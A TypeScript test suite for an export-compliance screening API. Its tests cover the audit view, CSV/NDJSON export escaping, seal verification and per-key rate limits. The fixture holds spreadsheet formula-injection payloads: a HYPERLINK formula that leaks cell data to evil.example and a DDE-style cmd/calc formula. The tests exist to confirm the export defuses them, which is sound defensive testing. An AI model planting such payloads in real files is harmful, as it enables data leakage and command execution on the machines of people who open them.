/**
 * Issue #9, "fit for daily use", as the people who trip over it: an auditor who cannot see what was
 * screened, a spreadsheet that runs a party name as a formula, reviewers known only by a UUID, a
 * verify that does not show the seal hash to hold against the outside copy, an ERP key throttled
 * like a person's.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../helpers/csv.js';
import { bearer, createKey, makeKeyedApp, TEST_ADMIN_KEY, type KeyedTestApp } from '../helpers/keys.js';
import { withLists } from '../helpers/ruleset.js';

// A reference or party name starting with = + or @ is refused at input (tests/http/strict-input.test.ts); one
// starting with '-' is a legitimate reference (and a formula to a spreadsheet): the export defuses it.
const shipment = {
  reference: '-1+HYPERLINK("http://evil.example/?"&A1,"open")',
  shipDate: '2026-11-30',
  items: [{ model: 'NVIDIA H200 SXM 141GB', quantity: 16 }],
  parties: [
    { role: 'buyer', name: 'Lion City Compute Pte. Ltd.', country: 'SG', headquartersCountry: 'CN', businessType: 'cloud' },
    { role: 'end_user', name: '-SUM(1+1)*cmd|" /C calc"!A0', country: 'Malaysia' },
  ],
  route: { origin: 'US', via: ['SG'], destination: 'MY' },
  endUse: 'Cloud GPU rental',
};


describe('fit for daily use', () => {
  let t: KeyedTestApp;
  let screening: { id: string; decision: string };
  let officer: { id: string; key: string };
  beforeAll(async () => {
    t = await makeKeyedApp({}, { loadRuleset: withLists, sealIntervalMs: 0 });
    const res = await t.app.inject({
      method: 'POST',
      url: '/v1/api-keys',
      headers: bearer(TEST_ADMIN_KEY),
      payload: { role: 'reviewer', name: 'compliance desk', holder: 'Jane Doe' },
    });
    expect(res.statusCode, res.body).toBe(201);
    officer = res.json();
    expect(res.json()).toMatchObject({ holder: 'Jane Doe', rateLimitPerMinute: null });
    const s = await t.app.inject({ method: 'POST', url: '/v1/screenings', headers: bearer(t.keys.submitter.key), payload: shipment });
    expect(s.statusCode, s.body).toBe(201);
    screening = s.json();
    const d = await t.app.inject({
      method: 'POST',
      url: `/v1/screenings/${screening.id}/dispositions`,
      headers: bearer(officer.key),
      payload: { action: 'escalated', justification: '-1 end user unknown, =ask sales' },
    });
    expect(d.statusCode, d.body).toBe(201);
    expect(d.json()).toMatchObject({ by: officer.id, byName: 'Jane Doe' });
  }, 300_000);
  afterAll(() => t.close());

  it('GET /v1/screenings/{id} shows what was screened, who screened it and who reviewed it, under the same access rules', async () => {
    const res = await t.app.inject({ method: 'GET', url: `/v1/screenings/${screening.id}`, headers: bearer(t.keys.auditor.key) });
    expect(res.statusCode, res.body).toBe(200);
    const body = res.json();
    expect(body.shipment).toEqual(shipment);
    expect(body.screenedBy).toEqual({ keyId: t.keys.submitter.id, name: 'test submitter' });
    expect(body.dispositions).toEqual([expect.objectContaining({ action: 'escalated', by: officer.id, byName: 'Jane Doe' })]);
    const own = await t.app.inject({ method: 'GET', url: `/v1/screenings/${screening.id}`, headers: bearer(t.keys.submitter.key) });
    expect(own.json().shipment.parties[1].name).toBe(shipment.parties[1]!.name);
    const other = await createKey(t, 'submitter');
    const foreign = await t.app.inject({ method: 'GET', url: `/v1/screenings/${screening.id}`, headers: bearer(other.key) });
    expect(foreign.statusCode).toBe(404);
    const list = await t.app.inject({ method: 'GET', url: '/v1/screenings', headers: bearer(t.keys.auditor.key) });
    expect(list.json().items[0].disposition).toMatchObject({ by: officer.id, byName: 'Jane Doe' });
  });

  it('CSV export: formulas escaped, BOM on request, parties/route/messages and names in their own cells', async () => {
    const res = await t.app.inject({ method: 'GET', url: '/v1/audit/export?format=csv&bom=true', headers: bearer(t.keys.auditor.key) });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.body.startsWith('\uFEFFid,seq,')).toBe(true);
    const [header, row] = parseCsv(res.body.slice(1));
    const cell = (name: string) => row![header!.indexOf(name)] as string;
    expect(header).not.toContain('dispositions');
    expect(cell('reference')).toBe(`'${shipment.reference}`);
    expect(cell('parties')).toBe('buyer: Lion City Compute Pte. Ltd. (SG); end_user: -SUM(1+1)*cmd|" /C calc"!A0 (Malaysia)');
    expect(cell('route')).toBe('US > SG > MY');
    expect(cell('flag_messages')).toMatch(/^[A-Z0-9-]+: .+/);
    expect(cell('screened_by')).toBe('test submitter');
    expect(cell('disposition_by')).toBe('Jane Doe');
    expect(cell('disposition_by_key')).toBe(officer.id);
    expect(cell('disposition_justification')).toBe(`'-1 end user unknown, =ask sales`);
    expect(cell('disposition_history')).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+Z escalated by Jane Doe: -1 end user unknown/);
    // No cell a spreadsheet would run: every one starting with = + - @ tab or CR is prefixed.
    for (const c of row!) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    const plain = await t.app.inject({ method: 'GET', url: '/v1/audit/export?format=csv', headers: bearer(t.keys.auditor.key) });
    expect(plain.body.startsWith('id,seq,')).toBe(true);
  });

  it('NDJSON export carries parties, route, flags and named reviewers', async () => {
    const res = await t.app.inject({ method: 'GET', url: '/v1/audit/export?format=ndjson', headers: bearer(t.keys.auditor.key) });
    const line = JSON.parse(res.body.trim().split('\n')[0] as string);
    expect(line).toMatchObject({
      screenedBy: 'test submitter',
      parties: [{ role: 'buyer', name: 'Lion City Compute Pte. Ltd.', country: 'SG' }, { role: 'end_user', country: 'Malaysia' }],
      route: shipment.route,
      dispositions: [{ action: 'escalated', byName: 'Jane Doe' }],
    });
    expect(line.flags.length).toBeGreaterThan(0);
    expect(line.flags.every((f: { severity: string }) => f.severity !== 'info')).toBe(true);
  });

  it('GET /v1/audit/verify names the latest seal and its hash', async () => {
    const before = await t.app.inject({ method: 'GET', url: '/v1/audit/verify', headers: bearer(t.keys.auditor.key) });
    expect(before.json().latestSeal).toBeNull();
    const sealed = await t.app.inject({ method: 'POST', url: '/v1/audit/seal', headers: bearer(t.keys.auditor.key) });
    const lastSeal = sealed.json().seals.at(-1);
    const after = await t.app.inject({ method: 'GET', url: '/v1/audit/verify', headers: bearer(t.keys.auditor.key) });
    expect(after.json()).toMatchObject({ ok: true, latestSeal: { sealNo: lastSeal.sealNo, sealHash: lastSeal.sealHash } });
  });

  it('a key may carry its own rate limit (an ERP key more than a person)', async () => {
    // The admin key spends 4 of its own 6 creating the role keys, 2 more below.
    const limited = await makeKeyedApp({ rateLimitPerMinute: 6 }, { loadRuleset: withLists, sealIntervalMs: 0 });
    try {
      const erp = await limited.app.inject({
        method: 'POST',
        url: '/v1/api-keys',
        headers: bearer(TEST_ADMIN_KEY),
        payload: { role: 'auditor', name: 'ERP', rateLimitPerMinute: 10 },
      });
      expect(erp.statusCode, erp.body).toBe(201);
      const hit = (key: string) => limited.app.inject({ method: 'GET', url: '/v1/rules', headers: bearer(key) });
      const person = [];
      for (let i = 0; i < 7; i++) person.push((await hit(limited.keys.auditor.key)).statusCode);
      expect(person).toEqual([200, 200, 200, 200, 200, 200, 429]);
      const machine = [];
      for (let i = 0; i < 9; i++) machine.push((await hit(erp.json().key)).statusCode);
      expect(machine.every((c) => c === 200)).toBe(true);
      expect((await hit(erp.json().key)).headers['x-ratelimit-limit']).toBe('10');
      const bad = await limited.app.inject({
        method: 'POST',
        url: '/v1/api-keys',
        headers: bearer(TEST_ADMIN_KEY),
        payload: { role: 'auditor', name: 'ERP', rateLimitPerMinute: 0 },
      });
      expect(bad.statusCode).toBe(400);
      expect(bad.json().errors[0].field).toBe('/rateLimitPerMinute');
    } finally {
      await limited.close();
    }
  }, 300_000);
});
